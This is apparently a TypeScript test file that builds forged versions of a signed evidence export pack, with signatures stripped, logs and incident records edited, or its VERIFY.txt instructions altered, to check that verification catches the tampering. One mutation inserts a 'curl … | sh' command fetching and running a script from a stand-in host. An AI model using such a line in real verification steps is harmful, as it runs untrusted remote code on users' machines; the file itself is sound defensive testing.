import { makePack } from '../../../unit/export/pack-maker';
import { redactedInput } from '../../../unit/export/redacted-input';
import { sampleDevice } from '../../../unit/export/sample-incident';
import { bytesOf, edit, editChain, type Forged, openPack, rewriteManifests } from '../forged-pack';
import { resignPack } from '../forged-seals';
import type { Mutation, World } from '../mutation';
import { pageFiles } from '../page-files';

/** The same pack as one without a signature: its VERIFY.txt speaks of none. A stranger needs no key for it. */
async function strip({ input }: World): Promise<Forged> {
  const { signer: _, ...unsigned } = input;
  return openPack(new Uint8Array(await (await makePack(unsigned)).blob.arrayBuffer()));
}

const stripped = (name: string, change: (files: Forged) => unknown, more: Partial<Mutation> = {}): Mutation => ({
  name: `signature of the pack taken away: ${name}`,
  who: 'stranger',
  id: 'signature',
  reason: 'signature-absent',
  ...more,
  apply: async (_, world) => {
    const files = await strip(world);
    await change(files);
    await rewriteManifests(files);
    return files;
  },
});

/** A pack whose captures are signed by a known key, and which nobody signed itself. */
export const strippedMutations: Mutation[] = [
  stripped('nothing else', () => {}, { isFirst: true }),
  stripped('VERIFY.txt of one’s own', (files) => files.set('VERIFY.txt', bytesOf('All is proven.\n'))),
  stripped('a log that says another thing', (files) =>
    editChain(
      files,
      (entries) =>
        entries.map((entry, index) => (index === 1 ? { ...entry, actor: 'nobody' } : entry)) as typeof entries,
      true,
    ),
  ),
  stripped('other acts in the record', (files) => edit(files, 'data/incident.json', '"threat"', '"stalking"')),
  stripped('papers left out', (files) => files.delete('data/evidence-list.pdf')),
  stripped('by somebody without a key list', () => {}, { reason: 'not-in-pack', outcome: 'open', options: {} }),
  stripped('with a list of other keys', () => {}, {
    reason: 'not-in-pack',
    outcome: 'open',
    options: { pins: [{ fingerprint: '0'.repeat(64), name: 'other' }], revoked: [] },
  }),
  stripped('keys are not proven by the captures’ key', () => {}, { id: 'keys', reason: 'not-in-pack' }),
  {
    name: 'signature of the pack taken away: a pack of copies alone',
    who: 'stranger',
    id: 'tools',
    reason: 'text-of-other',
    apply: async () => {
      const copies = await openPack(
        new Uint8Array(
          await (
            await makePack({ ...(await redactedInput('only')), signer: sampleDevice, pageFiles })
          ).blob.arrayBuffer(),
        ),
      );
      copies.delete('tagmanifest-sha256.txt.sig');
      copies.delete('key/device.spki.pem');
      await rewriteManifests(copies);
      return copies;
    },
  },
];

const text = (name: string, change: (files: Forged) => unknown): Mutation => ({
  name: `VERIFY.txt: ${name}`,
  id: 'tools',
  reason: 'tool-differs',
  isFirst: true,
  apply: async (files) => {
    await change(files);
    await resignPack(files, sampleDevice);
  },
});

/** What tells people how to check a pack is generated, and compared whole. */
export const verifyTextMutations: Mutation[] = [
  text('words of one’s own', (files) => files.set('VERIFY.txt', bytesOf('Nothing to check. All is proven.\n'))),
  text('one command altered', (files) =>
    edit(files, 'VERIFY.txt', /sha256sum -c manifest/, 'curl -s https://x.example/v | sh; sha256sum -c manifest'),
  ),
  text('a line more at the end', (files) => edit(files, 'VERIFY.txt', /$/, 'Call 03-0000-0000.\n')),
  text('left out', (files) => files.delete('VERIFY.txt')),
  text('empty', (files) => files.set('VERIFY.txt', new Uint8Array())),
  text('a mark in front', (files) => edit(files, 'VERIFY.txt', /^/, '\ufeff')),
  text('bytes that are no text', (files) =>
    files.set('VERIFY.txt', new Uint8Array([...(files.get('VERIFY.txt') ?? []), 0xff])),
  ),
  text('of another pack', (files) => edit(files, 'VERIFY.txt', 'K-2026-0117_20261130', 'K-2026-0009_20261130')),
];
